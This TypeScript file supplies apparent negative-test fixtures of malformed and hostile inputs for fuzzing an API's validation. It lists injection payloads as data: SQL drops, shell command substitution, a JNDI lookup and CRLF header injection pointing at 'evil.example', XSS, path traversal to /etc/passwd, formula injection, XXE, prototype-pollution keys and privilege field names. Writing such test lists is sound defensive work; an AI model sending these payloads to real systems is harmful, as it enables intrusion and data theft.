/** JSON as it is written, for what `JSON.stringify` would not write. */
export type RawJson = { readonly [RAW]: string };
const RAW = Symbol('raw JSON');

const raw = (text: string): RawJson => ({ [RAW]: text });

const NOT_TEXT_FRIENDS = ['\ud800', '\udfff', 'a\ud83d', '\ufffe\uffff', '\u{10ffff}'];
const INVISIBLE = [
  '\u202e\u0631gnp.exe',
  '\u200b\u200d\ufeff',
  '\u0000',
  'a\u0000b',
  '\u0007\u001b[31m',
];
const LINES = [
  'a\r\nBcc: x@evil.example',
  'a\nb',
  '\r\n\r\nHTTP/1.1 200 OK',
  '\u2028\u2029',
  '%0d%0aSet-Cookie:a=b',
];
const LANGUAGES = [
  ...[
    "' or 1=1 --",
    "'; drop table resets; --",
    '1; select pg_sleep(9)',
    "' union select null--",
    '\\',
  ],
  ...[
    '*)(uid=*))(|(uid=*',
    'cn=*,dc=x',
    '$(sleep 9)',
    '`sleep 9`',
    '; sleep 9 &',
    '|| true',
    '${7*7}',
  ],
  ...[
    '{{7*7}}',
    '<%= 7*7 %>',
    '#{7*7}',
    '${jndi:ldap://evil.example/a}',
    '<script>alert(1)</script>',
  ],
  ...[
    '"><img src=x onerror=a()>',
    'javascript:alert(1)',
    '../../../../etc/passwd',
    '..\\..\\win.ini',
  ],
  ...[
    'file:///etc/passwd',
    'http://evil.example/',
    '%s%s%n%x',
    '%p%p',
    "=cmd|' /C calc'!A0",
    '<!ENTITY a SYSTEM "x">',
  ],
  ...[
    '{"$ne":null}',
    '[object Object]',
    'null',
    'undefined',
    'NaN',
    'true',
    '0',
    '-1',
    '1e400',
    '0x41',
    'ß'.repeat(9),
  ],
];
const LONG = [
  'a'.repeat(257),
  'a'.repeat(1_025),
  'é'.repeat(4_000),
  '9'.repeat(20_000),
  '𝕏'.repeat(5_000),
  ' '.repeat(30_000),
  'a@'.repeat(9_000),
  '(a+)+$'.repeat(500),
];

/** Texts that mean something to a database, a shell, a page, a log or a terminal, or to nobody. */
export const BAD_TEXTS: readonly string[] = [
  '',
  ' ',
  ...NOT_TEXT_FRIENDS,
  ...INVISIBLE,
  ...LINES,
  ...LANGUAGES,
  ...LONG,
];

const deep = (open: string, close: string, times: number): RawJson =>
  raw(`${open.repeat(times)}1${close.repeat(times)}`);

/** Values of the wrong kind, size or depth, for any field. */
export const BAD_VALUES: readonly unknown[] = [
  ...[null, true, false, 0, -1, 1.5, 2 ** 31, 2 ** 53, -(2 ** 63)],
  ...['1e400', '-1e400', '-0', '1e-400', 'NaN', 'Infinity', '01', '0x10', '1_000', '.5'].map(raw),
  ...['"\\ud800"', '"\\u0000"', '"\\x41"', '"\t"', "'a'", 'undefined', '{"a":1,"a":2}'].map(raw),
  ...['{"__proto__":{"a":1}}', '{"constructor":{"prototype":{"a":1}}}', '{"toString":1}'].map(raw),
  ...['{"then":1,"toJSON":1}', '{"length":1e9}', '{"$gt":""}', '{"":""}'].map(raw),
  ...[[], [[]], {}, [null], [{}], ['a', 'a'], Array(3_000).fill(0), Array(2_000).fill('a')],
  deep('[', ']', 50),
  deep('[', ']', 9_000),
  deep('{"a":', '}', 5_000),
  ...BAD_TEXTS,
];

/** Names of fields nobody declared. */
export const BAD_NAMES: readonly string[] = [
  ...['surprise', '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '$where'],
  ...[
    '',
    ' ',
    '\u0000',
    'a.b',
    'a[b]',
    '../a',
    'é',
    '\ud800',
    'x'.repeat(5_000),
    'isAdmin',
    'roles',
  ],
  ...['id', 'tenantId', 'subjectId', 'step', 'token', '__defineGetter__', '0', '-1'],
];

/** The JSON of a value in which parts may be given as they are to be written. */
export function jsonOf(value: unknown): string {
  if (Array.isArray(value)) return `[${value.map(jsonOf).join(',')}]`;
  if (typeof value !== 'object' || value === null) return JSON.stringify(value) ?? 'null';
  if (RAW in value) return (value as RawJson)[RAW];
  const members = Object.entries(value).map(
    ([name, one]) => `${JSON.stringify(name)}:${jsonOf(one)}`,
  );
  return `{${members.join(',')}}`;
}
